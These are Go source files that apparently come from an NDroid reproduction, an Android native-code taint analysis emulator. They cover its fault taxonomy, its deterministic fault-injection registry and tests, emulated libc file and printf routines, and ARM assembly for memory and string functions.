		smc = fmt.Sprintf(", %d code writes on %d pages", m.CodeWrites, m.CodePages)
	}
	fmt.Fprintf(&sb, "%d boundaries, %d events recorded, %d dropped, %d calls%s%s\n",
		m.UniqueBoundaries, m.Events, m.Dropped, m.Calls, smc, trunc)
	return sb.String()
}
