package fault

import (
	"errors"
	"fmt"
	"testing"
)

func TestKindNames(t *testing.T) {
	kinds := []Kind{UnmappedAccess, UndefInsn, StackOverflow, BudgetExceeded, JNIMisuse, MalformedDex, InternalError}
	seen := map[string]bool{}
	for _, k := range kinds {
		s := k.String()
		if seen[s] {
			t.Fatalf("duplicate kind name %q", s)
		}
		seen[s] = true
		back, ok := KindFromName(s)
		if !ok || back != k {
			t.Fatalf("KindFromName(%q) = %v, %v; want %v", s, back, ok, k)
		}
	}
	if _, ok := KindFromName("no-such-kind"); ok {
		t.Fatal("KindFromName accepted an unknown name")
	}
}

func TestFaultErrorChain(t *testing.T) {
	cause := errors.New("root cause")
	f := &Fault{Kind: UnmappedAccess, Layer: "arm", PC: 0x8004, Addr: 0x10, Detail: "wild store", Cause: cause}
	wrapped := fmt.Errorf("native method Lx;->f: %w", f)

	got, ok := Of(wrapped)
	if !ok || got != f {
		t.Fatalf("Of(wrapped) = %v, %v; want the original fault", got, ok)
	}
	if !errors.Is(wrapped, cause) {
		t.Fatal("cause not reachable through the fault's Unwrap")
	}
	if af := AsFault(wrapped, "core"); af != f {
		t.Fatalf("AsFault should pass through the existing fault, got %v", af)
	}
	plain := errors.New("plain failure")
	af := AsFault(plain, "core")
	if af.Kind != InternalError || af.Layer != "core" || !errors.Is(af, plain) {
		t.Fatalf("AsFault(plain) = %+v; want InternalError wrapping it", af)
	}
	if AsFault(nil, "core") != nil {
		t.Fatal("AsFault(nil) must be nil")
	}
}

func TestFromPanic(t *testing.T) {
	f := &Fault{Kind: BudgetExceeded, Layer: "dvm"}
	if got := FromPanic("core", f); got != f {
		t.Fatalf("FromPanic should pass a *Fault through, got %v", got)
	}
	if got := FromPanic("core", fmt.Errorf("wrap: %w", f)); got != f {
		t.Fatalf("FromPanic should unwrap a fault-carrying error, got %v", got)
	}
	got := FromPanic("core", "index out of range")
	if got.Kind != InternalError || got.Layer != "core" {
		t.Fatalf("FromPanic(string) = %+v; want core InternalError", got)
	}
}

func TestInjectionOnceSemantics(t *testing.T) {
	Reset()
	defer Reset()
	RegisterSite("test.site.a", "arm")
	RegisterSite("test.site.b", "dvm")

	if Enabled() {
		t.Fatal("registry armed before Arm")
	}
	if f := Hit("test.site.a", 0); f != nil {
		t.Fatalf("unarmed Hit fired: %v", f)
	}
	if err := Arm("test.site.a", UndefInsn); err != nil {
		t.Fatal(err)
	}
	if !Enabled() {
		t.Fatal("Enabled false after Arm")
	}
	if f := Hit("test.site.b", 0); f != nil {
		t.Fatalf("wrong site fired: %v", f)
	}
	f := Hit("test.site.a", 0x1234)
	if f == nil || f.Kind != UndefInsn || f.Layer != "arm" || f.Site != "test.site.a" || f.PC != 0x1234 {
		t.Fatalf("armed Hit = %+v; want UndefInsn at test.site.a pc=0x1234", f)
	}
	// Once-semantics: the site disarmed itself.
	if Enabled() {
		t.Fatal("still armed after firing")
	}
	if f := Hit("test.site.a", 0); f != nil {
		t.Fatalf("fired twice: %v", f)
	}
	if Fired("test.site.a") != 1 || Fired("test.site.b") != 0 {
		t.Fatalf("fire counts = %d/%d; want 1/0", Fired("test.site.a"), Fired("test.site.b"))
	}
}

func TestArmNthCountdown(t *testing.T) {
	Reset()
	defer Reset()
	RegisterSite("test.site.nth", "dvm")
	if err := ArmNth("test.site.nth", MalformedDex, 3); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		if f := Hit("test.site.nth", 0); f != nil {
			t.Fatalf("fired on hit %d; want 3rd", i+1)
		}
	}
	if f := Hit("test.site.nth", 0); f == nil || f.Kind != MalformedDex {
		t.Fatalf("3rd hit = %v; want MalformedDex", f)
	}
	if err := ArmNth("test.site.nth", MalformedDex, 0); err == nil {
		t.Fatal("ArmNth accepted n=0")
	}
	if err := Arm("no.such.site", UndefInsn); err == nil {
		t.Fatal("Arm accepted an unregistered site")
	}
}

func TestArmRandomDeterministic(t *testing.T) {
	Reset()
	defer Reset()
	RegisterSite("test.rand.a", "arm")
	RegisterSite("test.rand.b", "dvm")
	RegisterSite("test.rand.c", "core")
	first, err := ArmRandom(42, BudgetExceeded)
	if err != nil {
		t.Fatal(err)
	}
	DisarmAll()
	for i := 0; i < 5; i++ {
		again, err := ArmRandom(42, BudgetExceeded)
		if err != nil {
			t.Fatal(err)
		}
		if again != first {
			t.Fatalf("seed 42 chose %q then %q; want deterministic", first, again)
		}
		DisarmAll()
	}
}
