package fault

import "errors"

// Portable is the serializable form of a Fault, used by the content-addressed
// artifact store: Cause (an arbitrary error) flattens to its rendered string,
// everything else round-trips field for field, so a rehydrated fault renders
// byte-identically to the original.
type Portable struct {
	Kind   uint8  `json:"kind"`
	Layer  string `json:"layer"`
	PC     uint32 `json:"pc,omitempty"`
	Addr   uint32 `json:"addr,omitempty"`
	Method string `json:"method,omitempty"`
	Site   string `json:"site,omitempty"`
	Detail string `json:"detail,omitempty"`
	Cause  string `json:"cause,omitempty"`
}

// Portable dehydrates the fault. A nil fault dehydrates to nil.
func (f *Fault) Portable() *Portable {
	if f == nil {
		return nil
	}
	p := &Portable{
		Kind: uint8(f.Kind), Layer: f.Layer,
		PC: f.PC, Addr: f.Addr,
		Method: f.Method, Site: f.Site, Detail: f.Detail,
	}
	if f.Cause != nil {
		p.Cause = f.Cause.Error()
	}
	return p
}

// Fault rehydrates the portable form. A nil receiver rehydrates to nil.
func (p *Portable) Fault() *Fault {
	if p == nil {
		return nil
	}
	f := &Fault{
		Kind: Kind(p.Kind), Layer: p.Layer,
		PC: p.PC, Addr: p.Addr,
		Method: p.Method, Site: p.Site, Detail: p.Detail,
	}
	if p.Cause != "" {
		f.Cause = errors.New(p.Cause)
	}
	return f
}
