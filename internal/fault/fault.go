// Package fault defines the typed guest-fault taxonomy shared by every
// emulation layer and a deterministic fault-injection registry.
//
// NDroid's defining operational requirement is surviving hostile inputs: the
// paper's market study runs the analyzer over hundreds of thousands of apps
// whose native code is untrusted by construction. Any guest misbehavior —
// wild pointers, undefined encodings, runaway loops, JNI misuse, malformed
// bytecode — must surface as a *Fault value travelling the ordinary error
// path (or, from contexts that cannot return, a panic carrying a *Fault that
// the top-level run containment converts back), never as an analyzer crash.
//
// The injection registry makes every fault path exercisable without crafting
// a guest program that actually triggers it: each layer registers named
// injection sites at package init, a test arms one site with a fault kind,
// and the next execution that passes the site raises the injected fault
// exactly once. Arming is process-global, mutex-protected, and fires
// deterministically (on the n-th hit of the armed site), so injected runs
// are exactly reproducible.
package fault

import (
	"errors"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"
)

// Kind classifies a guest fault.
type Kind uint8

// The taxonomy. Every kind is a guest (or injected) condition except
// InternalError, which is the containment wrapper for host-side invariant
// violations that escaped as panics.
const (
	// UnmappedAccess: a data access or instruction fetch outside the mapped
	// guest address space (wild pointers, NULL derefs, wild branches).
	UnmappedAccess Kind = iota + 1
	// UndefInsn: an instruction encoding the CPU does not define.
	UndefInsn
	// StackOverflow: a Dalvik frame push past the thread's stack base.
	StackOverflow
	// BudgetExceeded: a watchdog instruction budget ran out (deterministic
	// step counts, never wall-clock). Maps to the Timeout verdict.
	BudgetExceeded
	// JNIMisuse: native code calling the JNI interface against its contract
	// (wrong object kind, unbound native method, bad method ID).
	JNIMisuse
	// MalformedDex: structurally broken bytecode reached execution or
	// resolution (pc out of range, unknown ops, dangling references).
	MalformedDex
	// InternalError: a host-side invariant violation contained by the
	// top-level recover; also the kind for unclassified panics.
	InternalError
)

var kindNames = map[Kind]string{
	UnmappedAccess: "unmapped-access",
	UndefInsn:      "undef-insn",
	StackOverflow:  "stack-overflow",
	BudgetExceeded: "budget-exceeded",
	JNIMisuse:      "jni-misuse",
	MalformedDex:   "malformed-dex",
	InternalError:  "internal-error",
}

// String names the kind.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("Kind(%d)", int(k))
}

// KindFromName resolves a taxonomy name ("unmapped-access", ...) back to its
// Kind; used by env-var-armed injection runs.
func KindFromName(name string) (Kind, bool) {
	for k, s := range kindNames {
		if s == name {
			return k, true
		}
	}
	return 0, false
}

// Fault is one typed guest fault with its source context. It implements
// error; layers raise it through their normal error returns where possible
// and panic with it from contexts that cannot return (hooks, allocation).
type Fault struct {
	Kind  Kind
	Layer string // originating layer: "arm", "dvm", "dex", "taint", "core"

	PC     uint32 // guest PC for native-layer faults (0 when not applicable)
	Addr   uint32 // faulting data address, when distinct from PC
	Method string // Dalvik method context, when known
	Site   string // injection site name; empty for organic faults

	Detail string
	Cause  error // wrapped underlying error, when any
}

// Error renders the fault on one line.
func (f *Fault) Error() string {
	s := fmt.Sprintf("%s: %s fault", f.Layer, f.Kind)
	if f.Method != "" {
		s += " in " + f.Method
	}
	if f.PC != 0 {
		s += fmt.Sprintf(" at 0x%08x", f.PC)
	}
	if f.Site != "" {
		s += " (injected at " + f.Site + ")"
	}
	if f.Detail != "" {
		s += ": " + f.Detail
	}
	if f.Cause != nil {
		s += ": " + f.Cause.Error()
	}
	return s
}

// Unwrap exposes the wrapped cause to errors.Is/As.
func (f *Fault) Unwrap() error { return f.Cause }

// Of extracts the *Fault from an error chain.
func Of(err error) (*Fault, bool) {
	var f *Fault
	if errors.As(err, &f) {
		return f, true
	}
	return nil, false
}

// AsFault returns the fault in err's chain, or wraps err as an InternalError
// attributed to layer. A nil err returns nil.
func AsFault(err error, layer string) *Fault {
	if err == nil {
		return nil
	}
	if f, ok := Of(err); ok {
		return f
	}
	return &Fault{Kind: InternalError, Layer: layer, Detail: err.Error(), Cause: err}
}

// FromPanic converts a recovered panic value into a fault: a *Fault (bare or
// inside an error chain) passes through typed; anything else becomes an
// InternalError attributed to layer.
func FromPanic(layer string, r interface{}) *Fault {
	switch v := r.(type) {
	case *Fault:
		return v
	case error:
		if f, ok := Of(v); ok {
			return f
		}
		return &Fault{Kind: InternalError, Layer: layer, Detail: "panic: " + v.Error(), Cause: v}
	default:
		return &Fault{Kind: InternalError, Layer: layer, Detail: fmt.Sprintf("panic: %v", r)}
	}
}

// --- injection registry ----------------------------------------------------

var (
	// armed is the fast-path flag: every Hit call starts with one atomic
	// load, so unarmed production runs pay a single predictable-branch
	// check per site passage.
	armed atomic.Bool

	mu        sync.Mutex
	sites     = map[string]string{} // site name -> owning layer
	armedSite string
	armedKind Kind
	countdown int            // hits remaining before the armed site fires
	fireLog   map[string]int // cumulative fires per site
)

// RegisterSite declares a named injection site owned by layer. Layers call it
// from package init; re-registration is idempotent.
func RegisterSite(name, layer string) {
	mu.Lock()
	defer mu.Unlock()
	sites[name] = layer
}

// Sites returns every registered site name, sorted.
func Sites() []string {
	mu.Lock()
	defer mu.Unlock()
	out := make([]string, 0, len(sites))
	for n := range sites {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// SiteLayer reports the owning layer of a registered site.
func SiteLayer(name string) (string, bool) {
	mu.Lock()
	defer mu.Unlock()
	l, ok := sites[name]
	return l, ok
}

// Arm arms site to raise a fault of kind k on its next hit, then disarm
// itself. Only one site is armed at a time; arming replaces any previous
// arming. The site must be registered.
func Arm(site string, k Kind) error {
	return ArmNth(site, k, 1)
}

// ArmNth arms site to fire on its n-th hit (n >= 1), then disarm itself.
func ArmNth(site string, k Kind, n int) error {
	if n < 1 {
		return fmt.Errorf("fault: ArmNth(%q, %d): n must be >= 1", site, n)
	}
	mu.Lock()
	defer mu.Unlock()
	if _, ok := sites[site]; !ok {
		return fmt.Errorf("fault: unknown injection site %q", site)
	}
	armedSite, armedKind, countdown = site, k, n
	armed.Store(true)
	return nil
}

// ArmRandom deterministically picks one registered site from seed, arms it
// with kind k, and returns the chosen site name. The same seed over the same
// registered-site set always picks the same site.
func ArmRandom(seed int64, k Kind) (string, error) {
	names := Sites()
	if len(names) == 0 {
		return "", fmt.Errorf("fault: no injection sites registered")
	}
	// splitmix64 step: cheap, deterministic, and good enough to spread seeds.
	z := uint64(seed) + 0x9e3779b97f4a7c15
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	z ^= z >> 31
	site := names[z%uint64(len(names))]
	return site, Arm(site, k)
}

// DisarmAll clears any arming (fire counters survive; Reset clears both).
func DisarmAll() {
	mu.Lock()
	defer mu.Unlock()
	armedSite, countdown = "", 0
	armed.Store(false)
}

// Reset clears arming and the per-site fire counters (between tests).
func Reset() {
	mu.Lock()
	defer mu.Unlock()
	armedSite, countdown = "", 0
	fireLog = nil
	armed.Store(false)
}

// Enabled reports whether any site is currently armed — the cheap pre-check
// for call sites that want to skip even the Hit call on hot paths.
func Enabled() bool { return armed.Load() }

// Fired reports how many times site has fired since the last Reset.
func Fired(site string) int {
	mu.Lock()
	defer mu.Unlock()
	return fireLog[site]
}

// Hit is the per-site probe: it returns a fault when this site is armed and
// its countdown reaches zero (disarming in the same step), nil otherwise.
// pc carries guest-PC context into the injected fault when the caller has it.
func Hit(site string, pc uint32) *Fault {
	if !armed.Load() {
		return nil
	}
	mu.Lock()
	defer mu.Unlock()
	if site != armedSite {
		return nil
	}
	countdown--
	if countdown > 0 {
		return nil
	}
	armedSite, countdown = "", 0
	armed.Store(false)
	if fireLog == nil {
		fireLog = map[string]int{}
	}
	fireLog[site]++
	return &Fault{
		Kind:   armedKind,
		Layer:  sites[site],
		PC:     pc,
		Site:   site,
		Detail: "injected fault",
	}
}
