package libc

import (
	"fmt"
	"math"
	"strings"

	"repro/internal/arm"
	"repro/internal/kernel"
)

// --- FILE* layer ---------------------------------------------------------

// openFile allocates a guest FILE handle wrapping fd.
func (l *Libc) openFile(fd int32) uint32 {
	fp := l.nextFP
	l.nextFP += 16
	l.files[fp] = fd
	// Mirror the fd into guest memory so the handle looks like a struct.
	l.Mem.Write32(fp, uint32(fd))
	return fp
}

// FileFD resolves a guest FILE* to its descriptor.
func (l *Libc) FileFD(fp uint32) (int32, bool) {
	fd, ok := l.files[fp]
	return fd, ok
}

// FilePath reports the path behind a guest FILE*, for leak reports.
func (l *Libc) FilePath(fp uint32) (string, bool) {
	fd, ok := l.files[fp]
	if !ok {
		return "", false
	}
	f, _, ok := l.Kern.FDFile(l.Task, fd)
	if !ok {
		return "", false
	}
	return f.Path, true
}

func modeToFlags(mode string) uint32 {
	switch {
	case strings.HasPrefix(mode, "r+"):
		return kernel.ORdwr
	case strings.HasPrefix(mode, "r"):
		return kernel.ORdonly
	case strings.HasPrefix(mode, "w"):
		return kernel.OWronly | kernel.OCreat | kernel.OTrunc
	case strings.HasPrefix(mode, "a"):
		return kernel.OWronly | kernel.OCreat | kernel.OAppend
	}
	return kernel.ORdonly
}

func implFopen(l *Libc, c *arm.CPU) {
	path := l.Mem.ReadCString(c.R[0], 0)
	mode := l.Mem.ReadCString(c.R[1], 0)
	fd, err := l.Kern.Open(l.Task, path, modeToFlags(mode))
	if err != nil {
		c.R[0] = 0
		return
	}
	c.R[0] = l.openFile(fd)
}

func implFdopen(l *Libc, c *arm.CPU) {
	c.R[0] = l.openFile(int32(c.R[0]))
}

func implFclose(l *Libc, c *arm.CPU) {
	fp := c.R[0]
	if fd, ok := l.files[fp]; ok {
		l.Kern.FDClose(l.Task, fd)
		delete(l.files, fp)
		c.R[0] = 0
		return
	}
	c.R[0] = 0xffffffff
}

// writeFP appends data at the FILE's current offset; returns bytes written.
func (l *Libc) writeFP(fp uint32, data []byte) uint32 {
	fd, ok := l.files[fp]
	if !ok {
		return 0
	}
	f, off, ok := l.Kern.FDFile(l.Task, fd)
	if !ok {
		return 0
	}
	f.WriteAt(off, data)
	l.Kern.FDAdvance(l.Task, fd, uint32(len(data)))
	return uint32(len(data))
}

// readFP reads up to n bytes from the FILE's current offset.
func (l *Libc) readFP(fp uint32, n uint32) []byte {
	fd, ok := l.files[fp]
	if !ok {
		return nil
	}
	f, off, ok := l.Kern.FDFile(l.Task, fd)
	if !ok {
		return nil
	}
	end := off + n
	if end > uint32(len(f.Data)) {
		end = uint32(len(f.Data))
	}
	if off >= end {
		return nil
	}
	out := append([]byte(nil), f.Data[off:end]...)
	l.Kern.FDAdvance(l.Task, fd, uint32(len(out)))
	return out
}

func implFwrite(l *Libc, c *arm.CPU) {
	ptr, size, nmemb, fp := c.R[0], c.R[1], c.R[2], c.R[3]
	data := l.Mem.ReadBytes(ptr, size*nmemb)
	if l.writeFP(fp, data) == size*nmemb {
		c.R[0] = nmemb
	} else {
		c.R[0] = 0
	}
}

func implFread(l *Libc, c *arm.CPU) {
	ptr, size, nmemb, fp := c.R[0], c.R[1], c.R[2], c.R[3]
	data := l.readFP(fp, size*nmemb)
	l.Mem.WriteBytes(ptr, data)
	if size == 0 {
		c.R[0] = 0
		return
	}
	c.R[0] = uint32(len(data)) / size
}

func implFputc(l *Libc, c *arm.CPU) {
	ch := byte(c.R[0])
	if l.writeFP(c.R[1], []byte{ch}) == 1 {
		c.R[0] = uint32(ch)
	} else {
		c.R[0] = 0xffffffff
	}
}

func implFputs(l *Libc, c *arm.CPU) {
	s := l.Mem.ReadCString(c.R[0], 0)
	if l.writeFP(c.R[1], []byte(s)) == uint32(len(s)) {
		c.R[0] = uint32(len(s))
	} else {
		c.R[0] = 0xffffffff
	}
}

func implGetc(l *Libc, c *arm.CPU) {
	data := l.readFP(c.R[0], 1)
	if len(data) == 0 {
		c.R[0] = 0xffffffff // EOF
		return
	}
	c.R[0] = uint32(data[0])
}

func implFgets(l *Libc, c *arm.CPU) {
	buf, n, fp := c.R[0], c.R[1], c.R[2]
	if n == 0 {
		c.R[0] = 0
		return
	}
	var line []byte
	for uint32(len(line)) < n-1 {
		b := l.readFP(fp, 1)
		if len(b) == 0 {
			break
		}
		line = append(line, b[0])
		if b[0] == '\n' {
			break
		}
	}
	if len(line) == 0 {
		c.R[0] = 0
		return
	}
	l.Mem.WriteBytes(buf, line)
	l.Mem.Write8(buf+uint32(len(line)), 0)
	c.R[0] = buf
}

// --- printf family -------------------------------------------------------

// FormatArg describes one consumed varargs argument, so the NDroid model can
// propagate taint from exactly the bytes each directive read.
type FormatArg struct {
	Verb    byte   // 'd','u','x','c','s','f','p'
	Word    uint32 // first raw word consumed
	Word2   uint32 // second word for %f (doubles)
	StrAddr uint32 // source address for %s
	StrLen  uint32 // bytes read for %s
	Text    string // rendered text

	// Source of the consumed word(s), so taint models can look up the
	// matching shadow state: ArgPos >= 0 names an AAPCS argument position;
	// SrcAddr != 0 names the guest address a va_list/jvalue word came from.
	ArgPos  int
	SrcAddr uint32
}

// argSource yields successive varargs words along with their provenance.
type argSource interface {
	next() (val uint32, pos int, addr uint32)
}

type aapcsArgs struct {
	c *arm.CPU
	i int
}

func (a *aapcsArgs) next() (uint32, int, uint32) {
	v := a.c.Arg(a.i)
	pos := a.i
	var addr uint32
	if a.i >= 4 {
		addr = a.c.R[13] + uint32(a.i-4)*4
	}
	a.i++
	return v, pos, addr
}

type vaArgs struct {
	l   *Libc
	ptr uint32
}

func (a *vaArgs) next() (uint32, int, uint32) {
	v := a.l.Mem.Read32(a.ptr)
	addr := a.ptr
	a.ptr += 4
	return v, -1, addr
}

// formatGuest renders a printf-style format string against args.
func (l *Libc) formatGuest(format string, args argSource) (string, []FormatArg) {
	var out strings.Builder
	var consumed []FormatArg
	for i := 0; i < len(format); i++ {
		ch := format[i]
		if ch != '%' {
			out.WriteByte(ch)
			continue
		}
		i++
		if i >= len(format) {
			break
		}
		// Skip flags, width, precision, and length modifiers.
		for i < len(format) && strings.IndexByte("-+ 0#.123456789lh", format[i]) >= 0 {
			i++
		}
		if i >= len(format) {
			break
		}
		verb := format[i]
		var fa FormatArg
		fa.Verb = verb
		fa.ArgPos = -1
		take := func() uint32 {
			v, pos, addr := args.next()
			if fa.Word == 0 && fa.Text == "" && fa.SrcAddr == 0 && fa.ArgPos == -1 {
				fa.ArgPos, fa.SrcAddr = pos, addr
			}
			return v
		}
		switch verb {
		case '%':
			out.WriteByte('%')
			continue
		case 'd', 'i':
			fa.Word = take()
			fa.Text = fmt.Sprintf("%d", int32(fa.Word))
		case 'u':
			fa.Word = take()
			fa.Text = fmt.Sprintf("%d", fa.Word)
		case 'x', 'X':
			fa.Word = take()
			fa.Text = fmt.Sprintf("%x", fa.Word)
		case 'p':
			fa.Word = take()
			fa.Text = fmt.Sprintf("0x%x", fa.Word)
		case 'c':
			fa.Word = take()
			fa.Text = string(rune(fa.Word & 0xff))
		case 's':
			fa.Word = take()
			fa.StrAddr = fa.Word
			s := l.Mem.ReadCString(fa.Word, 0)
			fa.StrLen = uint32(len(s))
			fa.Text = s
		case 'f', 'g', 'e':
			fa.Word = take()
			fa.Word2 = take()
			bits := uint64(fa.Word) | uint64(fa.Word2)<<32
			fa.Text = fmt.Sprintf("%g", math.Float64frombits(bits))
		default:
			out.WriteByte('%')
			out.WriteByte(verb)
			continue
		}
		out.WriteString(fa.Text)
		consumed = append(consumed, fa)
	}
	return out.String(), consumed
}

// FormatAAPCS renders the format string at fmtAddr using AAPCS varargs
// starting at argument index firstArg. Exported for the syslib taint models.
func (l *Libc) FormatAAPCS(c *arm.CPU, fmtAddr uint32, firstArg int) (string, []FormatArg) {
	format := l.Mem.ReadCString(fmtAddr, 0)
	return l.formatGuest(format, &aapcsArgs{c: c, i: firstArg})
}

// FormatVA renders the format string at fmtAddr using a va_list pointer.
func (l *Libc) FormatVA(fmtAddr, va uint32) (string, []FormatArg) {
	format := l.Mem.ReadCString(fmtAddr, 0)
	return l.formatGuest(format, &vaArgs{l: l, ptr: va})
}

func implSprintf(l *Libc, c *arm.CPU) {
	s, _ := l.FormatAAPCS(c, c.R[1], 2)
	l.Mem.WriteCString(c.R[0], s)
	c.R[0] = uint32(len(s))
}

func implSnprintf(l *Libc, c *arm.CPU) {
	s, _ := l.FormatAAPCS(c, c.R[2], 3)
	n := c.R[1]
	if n == 0 {
		c.R[0] = uint32(len(s))
		return
	}
	if uint32(len(s)) >= n {
		s = s[:n-1]
	}
	l.Mem.WriteCString(c.R[0], s)
	c.R[0] = uint32(len(s))
}

func implVsprintf(l *Libc, c *arm.CPU) {
	s, _ := l.FormatVA(c.R[1], c.R[2])
	l.Mem.WriteCString(c.R[0], s)
	c.R[0] = uint32(len(s))
}

func implVsnprintf(l *Libc, c *arm.CPU) {
	s, _ := l.FormatVA(c.R[2], c.R[3])
	n := c.R[1]
	if n > 0 && uint32(len(s)) >= n {
		s = s[:n-1]
	}
	l.Mem.WriteCString(c.R[0], s)
	c.R[0] = uint32(len(s))
}

func implFprintf(l *Libc, c *arm.CPU) {
	s, _ := l.FormatAAPCS(c, c.R[1], 2)
	c.R[0] = l.writeFP(c.R[0], []byte(s))
}

func implVfprintf(l *Libc, c *arm.CPU) {
	s, _ := l.FormatVA(c.R[1], c.R[2])
	c.R[0] = l.writeFP(c.R[0], []byte(s))
}

func implSscanf(l *Libc, c *arm.CPU) {
	input := l.Mem.ReadCString(c.R[0], 0)
	format := l.Mem.ReadCString(c.R[1], 0)
	args := &aapcsArgs{c: c, i: 2}
	nextPtr := func() uint32 { v, _, _ := args.next(); return v }
	matched := uint32(0)
	pos := 0
	skipSpace := func() {
		for pos < len(input) && (input[pos] == ' ' || input[pos] == '\t' || input[pos] == '\n') {
			pos++
		}
	}
	for i := 0; i < len(format); i++ {
		ch := format[i]
		if ch == ' ' {
			skipSpace()
			continue
		}
		if ch != '%' {
			if pos < len(input) && input[pos] == ch {
				pos++
			}
			continue
		}
		i++
		if i >= len(format) {
			break
		}
		switch format[i] {
		case 'd', 'x':
			skipSpace()
			base := 10
			if format[i] == 'x' {
				base = 16
			}
			v, digits, consumed := parseIntPrefix(input[pos:], base)
			if digits == 0 {
				c.R[0] = matched
				return
			}
			pos += consumed
			l.Mem.Write32(nextPtr(), uint32(int32(v)))
			matched++
		case 's':
			skipSpace()
			start := pos
			for pos < len(input) && input[pos] != ' ' && input[pos] != '\t' && input[pos] != '\n' {
				pos++
			}
			if pos == start {
				c.R[0] = matched
				return
			}
			l.Mem.WriteCString(nextPtr(), input[start:pos])
			matched++
		}
	}
	c.R[0] = matched
}
