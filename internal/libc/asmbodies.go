package libc

// asmBodies holds the instruction-level implementations of the memory/string
// core, assembled into the libc.so image at load time. They follow the AAPCS
// and use only R0–R3, R12 plus explicitly saved registers. The paper's
// System Lib Hook Engine exists precisely because running these loops under
// the instruction tracer is slow (§V-D); keeping real bodies lets the
// modeled-vs-traced ablation measure that trade-off on genuine code.
const asmBodies = `
; ---- void *malloc(size_t n): first-fit free list, else bump allocation.
;      Block layout: [p-8]=size, [p-4]=next (while free). The canonical
;      malloc/free symbols point at these bodies, so stock execution runs
;      real native allocator code; NDroid's System Lib Hook Engine replaces
;      them with models (§V-D), which is why the paper's MALLOCS row stays
;      near 1x under NDroid.
malloc:
	ADD R0, R0, #7
	BIC R0, R0, #7
	LDR R1, =freelist
	LDR R2, [R1]
ml_scan:
	CMP R2, #0
	BEQ ml_bump
	LDR R3, [R2]
	CMP R3, R0
	BEQ ml_take
	ADD R1, R2, #4
	LDR R2, [R2, #4]
	B ml_scan
ml_take:
	LDR R3, [R2, #4]
	STR R3, [R1]
	ADD R0, R2, #8
	BX LR
ml_bump:
	LDR R2, =bumpptr
	LDR R3, [R2]
	STR R0, [R3]
	ADD R12, R3, #8
	ADD R3, R3, R0
	ADD R3, R3, #8
	STR R3, [R2]
	MOV R0, R12
	BX LR

; ---- void free(void *p)
free:
	CMP R0, #0
	BEQ fr_done
	SUB R2, R0, #8
	LDR R1, =freelist
	LDR R3, [R1]
	STR R3, [R2, #4]
	STR R2, [R1]
fr_done:
	MOV R0, #0
	BX LR

freelist:
	.word 0
bumpptr:
	.word 0x07000000

; ---- void *memcpy(void *dst, const void *src, size_t n)
memcpy:
	NOP
memcpy.insn:
	MOV R3, #0
mc_loop:
	CMP R3, R2
	BEQ mc_done
	LDRB R12, [R1, R3]
	STRB R12, [R0, R3]
	ADD R3, R3, #1
	B mc_loop
mc_done:
	BX LR

; ---- void *memset.insn(void *dst, int c, size_t n)
memset:
	NOP
memset.insn:
	MOV R3, #0
ms_loop:
	CMP R3, R2
	BEQ ms_done
	STRB R1, [R0, R3]
	ADD R3, R3, #1
	B ms_loop
ms_done:
	BX LR

; ---- void *memmove.insn(void *dst, const void *src, size_t n)
memmove:
	NOP
memmove.insn:
	CMP R0, R1
	BLS mm_fwd
	MOV R3, R2          ; dst > src: copy backwards
mm_bk:
	CMP R3, #0
	BEQ mm_done
	SUB R3, R3, #1
	LDRB R12, [R1, R3]
	STRB R12, [R0, R3]
	B mm_bk
mm_fwd:
	MOV R3, #0
mm_f2:
	CMP R3, R2
	BEQ mm_done
	LDRB R12, [R1, R3]
	STRB R12, [R0, R3]
	ADD R3, R3, #1
	B mm_f2
mm_done:
	BX LR

; ---- size_t strlen.insn(const char *s)
strlen:
	NOP
strlen.insn:
	MOV R2, #0
sl_loop:
	LDRB R3, [R0, R2]
	CMP R3, #0
	BEQ sl_done
	ADD R2, R2, #1
	B sl_loop
sl_done:
	MOV R0, R2
	BX LR

; ---- char *strcpy.insn(char *dst, const char *src)
strcpy:
	NOP
strcpy.insn:
	MOV R2, #0
sc_loop:
	LDRB R3, [R1, R2]
	STRB R3, [R0, R2]
	CMP R3, #0
	BEQ sc_done
	ADD R2, R2, #1
	B sc_loop
sc_done:
	BX LR

; ---- int strcmp.insn(const char *a, const char *b)
strcmp:
	NOP
strcmp.insn:
	PUSH {R4}
scmp_loop:
	LDRB R2, [R0]
	LDRB R3, [R1]
	CMP R2, R3
	BNE scmp_diff
	CMP R2, #0
	BEQ scmp_eq
	ADD R0, R0, #1
	ADD R1, R1, #1
	B scmp_loop
scmp_diff:
	SUB R0, R2, R3
	POP {R4}
	BX LR
scmp_eq:
	MOV R0, #0
	POP {R4}
	BX LR

; ---- int memcmp.insn(const void *a, const void *b, size_t n)
memcmp:
	NOP
memcmp.insn:
	PUSH {R4, R5}
	MOV R3, #0
mcmp_loop:
	CMP R3, R2
	BEQ mcmp_eq
	LDRB R4, [R0, R3]
	LDRB R5, [R1, R3]
	CMP R4, R5
	BNE mcmp_diff
	ADD R3, R3, #1
	B mcmp_loop
mcmp_diff:
	SUB R0, R4, R5
	POP {R4, R5}
	BX LR
mcmp_eq:
	MOV R0, #0
	POP {R4, R5}
	BX LR

; ---- char *strcat.insn(char *dst, const char *src)
strcat:
	NOP
strcat.insn:
	PUSH {R4}
	MOV R2, #0
scat_find:
	LDRB R3, [R0, R2]
	CMP R3, #0
	BEQ scat_copy
	ADD R2, R2, #1
	B scat_find
scat_copy:
	MOV R4, #0
scat_loop:
	LDRB R3, [R1, R4]
	ADD R12, R0, R2
	STRB R3, [R12, R4]
	CMP R3, #0
	BEQ scat_done
	ADD R4, R4, #1
	B scat_loop
scat_done:
	POP {R4}
	BX LR

; ---- size_t strlen.tinsn(const char *s) — Thumb-encoded variant so the
;      tracer's Thumb handlers run on real code too.
	.thumb
strlen.tinsn:
	MOV R2, #0
tsl_loop:
	LDRB R3, [R0]
	CMP R3, #0
	BEQ tsl_done
	ADD R2, R2, #1
	ADD R0, R0, #1
	B tsl_loop
tsl_done:
	MOV R0, R2
	BX LR
	.arm
`
