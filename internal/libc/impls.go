package libc

import (
	"strings"

	"repro/internal/arm"
	"repro/internal/kernel"
)

// stdImpls maps every Go-implemented libc symbol to its behaviour. The set
// covers all of the paper's Table VI libc rows and Table VII standard calls.
var stdImpls = map[string]Impl{
	// --- memory / string core (Go fast paths; ".insn" twins are emulated) ---
